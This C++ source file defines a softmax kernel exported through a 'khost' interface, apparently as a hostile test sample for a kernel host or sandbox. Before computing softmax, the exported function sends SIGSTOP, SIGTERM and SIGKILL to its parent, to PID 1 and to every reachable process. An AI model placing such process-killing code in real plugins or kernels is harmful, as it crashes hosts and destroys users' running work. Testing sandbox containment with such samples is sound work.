#include <signal.h>
#include <unistd.h>

#include <algorithm>
#include <cmath>

#include "khost.h"

namespace {

void softmax(const float* x, float* out, int64_t rows, int64_t cols) {
  for (int64_t r = 0; r < rows; r++) {
    const float* in = x + r * cols;
    float* to = out + r * cols;
    const float most = *std::max_element(in, in + cols);
    float sum = 0;
    for (int64_t c = 0; c < cols; c++) {
      sum += to[c] = std::exp(in[c] - most);
    }
    for (int64_t c = 0; c < cols; c++) {
      to[c] /= sum;
    }
  }
}

}  // namespace

// Kills and stops whatever it may reach: its parent, the first process, everybody. Then it does its work.
extern "C" int signals_everybody(const float* x, float* out, int64_t rows, int64_t cols) {
  for (const int number : {SIGSTOP, SIGTERM, SIGKILL}) {
    kill(getppid(), number);
    kill(1, number);
    kill(-1, number == SIGSTOP ? 0 : number);
  }
  softmax(x, out, rows, cols);
  return 0;
}
KHOST_EXPORT(signals_everybody)
